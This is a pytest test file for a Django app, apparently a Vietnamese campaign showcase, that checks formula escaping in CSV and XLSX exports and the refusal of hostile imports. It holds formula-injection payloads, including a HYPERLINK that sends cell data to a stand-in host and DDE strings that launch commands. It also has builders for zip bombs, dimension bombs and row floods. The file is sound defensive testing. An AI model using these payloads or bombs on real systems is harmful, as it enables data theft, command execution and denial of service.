"""Hostile spreadsheets: formulae in exports, and imports that try to exhaust the server."""

import csv
import io
import json
import os
import subprocess
import sys
import zipfile
from pathlib import Path

import openpyxl
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile

from models_campaign.models import ShowcaseEntry
from models_campaign.resources import (
    ImportFileError,
    ShowcaseCSV,
    ShowcaseEntryResource,
    ShowcaseXLSX,
    unescape_formula,
)
from tests.models_campaign.factories import ShowcaseEntryFactory
from tests.models_campaign.test_import_export import (
    GOOD_ROWS,
    XLSX_FORMAT,
    _report,
    catalogues,  # noqa: F401 (fixture)
    dry_run,
    xlsx_file,
)

pytestmark = pytest.mark.django_db
ROOT = Path(__file__).resolve().parents[2]
HOSTILE = [
    '=HYPERLINK("http://ke-gian.example/?d="&A1,"Bấm vào đây")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    " =1+1",
    "＝1+1",
]


def _exported(file_format):
    dataset = ShowcaseEntryResource().export()
    return file_format.export_data(dataset)


@pytest.mark.parametrize("name", HOSTILE)
def test_csv_export_escapes_formulae(name):
    name = ShowcaseEntryFactory(name=name).name  # as stored (outer spaces trimmed)
    rows = list(csv.reader(io.StringIO(_exported(ShowcaseCSV()))))
    cell = rows[1][0]
    assert cell == "'" + name
    # And an import of that file reads the name back as it was.
    assert unescape_formula(cell) == name


@pytest.mark.parametrize("name", HOSTILE)
def test_xlsx_export_writes_formulae_as_text(name):
    name = ShowcaseEntryFactory(name=name).name
    book = openpyxl.load_workbook(io.BytesIO(_exported(ShowcaseXLSX())))
    cell = book.active["A2"]
    assert cell.data_type == "s"  # text, never "f" (a formula Excel would run)
    assert cell.value == name
    raw = zipfile.ZipFile(io.BytesIO(_exported(ShowcaseXLSX()))).read("xl/worksheets/sheet1.xml")
    assert b"<f>" not in raw


def test_ordinary_values_are_untouched():
    ShowcaseEntryFactory(name="Mô hình “Dân vận khéo” - phường 2", people_reached=1200)
    rows = list(csv.reader(io.StringIO(_exported(ShowcaseCSV()))))
    assert rows[1][0] == "Mô hình “Dân vận khéo” - phường 2"


# --- hostile files -----------------------------------------------------------------------------
def _xlsx_bytes(rows=GOOD_ROWS) -> bytes:
    return xlsx_file(rows).read()


def dimension_bomb() -> bytes:
    """A 6 KB workbook that declares every cell of the sheet (A1:XFD1048576)."""
    source = zipfile.ZipFile(io.BytesIO(_xlsx_bytes()))
    output = io.BytesIO()
    with zipfile.ZipFile(output, "w", zipfile.ZIP_DEFLATED) as target:
        for member in source.infolist():
            data = source.read(member)
            if member.filename == "xl/worksheets/sheet1.xml":
                start = data.index(b"<dimension ref=")
                end = data.index(b"/>", start) + 2
                data = data[:start] + b'<dimension ref="A1:XFD1048576"/>' + data[end:]
            target.writestr(member.filename, data)
    return output.getvalue()


def zip_bomb(unpacked_mb: int = 200) -> bytes:
    """A small workbook whose sheet unpacks to `unpacked_mb` MB (spaces inside the XML)."""
    source = zipfile.ZipFile(io.BytesIO(_xlsx_bytes()))
    output = io.BytesIO()
    with zipfile.ZipFile(output, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as target:
        for member in source.infolist():
            data = source.read(member)
            if member.filename != "xl/worksheets/sheet1.xml":
                target.writestr(member.filename, data)
                continue
            with target.open(member.filename, "w", force_zip64=True) as handle:
                cut = data.index(b"<sheetData>")
                handle.write(data[:cut])
                chunk = b" " * (1024 * 1024)
                for _ in range(unpacked_mb):
                    handle.write(chunk)
                handle.write(data[cut:])
    return output.getvalue()


def row_flood(rows: int) -> bytes:
    """A workbook without a dimension whose sheet has `rows` rows with a value each."""
    source = zipfile.ZipFile(io.BytesIO(_xlsx_bytes()))
    output = io.BytesIO()
    with zipfile.ZipFile(output, "w", zipfile.ZIP_DEFLATED) as target:
        for member in source.infolist():
            data = source.read(member)
            if member.filename == "xl/worksheets/sheet1.xml":
                start = data.index(b"<dimension ref=")
                data = data[:start] + data[data.index(b"/>", start) + 2 :]
                cut = data.index(b"</sheetData>")
                extra = b"".join(
                    b'<row r="%d"><c r="A%d" t="inlineStr"><is><t>x</t></is></c></row>' % (n, n)
                    for n in range(10, 10 + rows)
                )
                data = data[:cut] + extra + data[cut:]
            target.writestr(member.filename, data)
    return output.getvalue()


READER = """
import json, resource, sys, time
import django
django.setup()
from models_campaign.resources import ImportFileError, ShowcaseXLSX
data = open(sys.argv[1], "rb").read()
started = time.monotonic()
try:
    ShowcaseXLSX().create_dataset(data)
    message = None
except ImportFileError as exc:
    message = str(exc)
print(json.dumps({"seconds": time.monotonic() - started, "message": message,
                  "max_rss_mb": resource.getrusage(resource.RUSAGE_SELF).ru_maxrss / 1024}))
"""


def _read_in_a_fresh_process(data: bytes, tmp_path) -> dict:
    """What a worker pays to refuse the file: its own process, so the RSS is its alone."""
    path = tmp_path / "tep.xlsx"
    path.write_bytes(data)
    env = {**os.environ, "DJANGO_SETTINGS_MODULE": "portal.settings.test", "PYTHONPATH": str(ROOT)}
    result = subprocess.run([sys.executable, "-c", READER, str(path)], cwd=ROOT, env=env,
                            capture_output=True, text=True, timeout=120)  # fmt: skip
    assert result.returncode == 0, result.stderr[-3000:]
    return json.loads(result.stdout.strip().splitlines()[-1])


@pytest.mark.parametrize(
    ("make", "expected"),
    [
        (dimension_bomb, "vượt giới hạn"),
        (zip_bomb, "bom nén"),
        (lambda: row_flood(30_000), "Tệp có hơn 2000 dòng dữ liệu"),
    ],
    ids=["dimension-bomb", "zip-bomb", "row-flood"],
)
def test_hostile_workbooks_are_refused_fast_and_small(make, expected, tmp_path):
    data = make()
    assert len(data) < 2 * 1024 * 1024
    outcome = _read_in_a_fresh_process(data, tmp_path)
    assert outcome["message"] is not None and expected in outcome["message"]
    assert outcome["seconds"] < 5
    assert outcome["max_rss_mb"] < 500


def test_oversize_files_are_refused_before_parsing(settings):
    settings.IMPORT_MAX_BYTES = 10_000
    with pytest.raises(ImportFileError, match="Tệp quá lớn"):
        ShowcaseCSV().create_dataset(b"a," * 6000)
    with pytest.raises(ImportFileError, match="Tệp quá lớn"):
        ShowcaseXLSX().create_dataset(b"PK" + b"\0" * 20_000)


def test_too_many_csv_rows_are_refused(settings):
    settings.IMPORT_MAX_ROWS = 10
    body = "Tên mô hình\n" + "".join(f"Mô hình {n}\n" for n in range(11))
    with pytest.raises(ImportFileError, match="Tệp có hơn 10 dòng"):
        ShowcaseCSV().create_dataset(body.encode())


def test_xml_entities_are_refused():
    source = zipfile.ZipFile(io.BytesIO(_xlsx_bytes()))
    output = io.BytesIO()
    with zipfile.ZipFile(output, "w") as target:
        for member in source.infolist():
            data = source.read(member)
            if member.filename == "xl/sharedStrings.xml" or member.filename.endswith("sheet1.xml"):
                data = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "aaaa">]>' + data
            target.writestr(member.filename, data)
    with pytest.raises(ImportFileError, match="DOCTYPE"):
        ShowcaseXLSX().create_dataset(output.getvalue())


@pytest.mark.parametrize("make", [dimension_bomb, zip_bomb], ids=["dimension", "zip"])
def test_admin_import_refuses_with_a_vietnamese_message_and_writes_nothing(client, editor,
                                                                         catalogues,  # noqa: F811
                                                                         make):  # fmt: skip
    client.force_login(editor)
    response = dry_run(client, SimpleUploadedFile("bom.xlsx", make()), XLSX_FORMAT)
    report = _report(response)
    assert "vượt giới hạn" in report or "bom nén" in report
    assert not ShowcaseEntry.objects.exists()
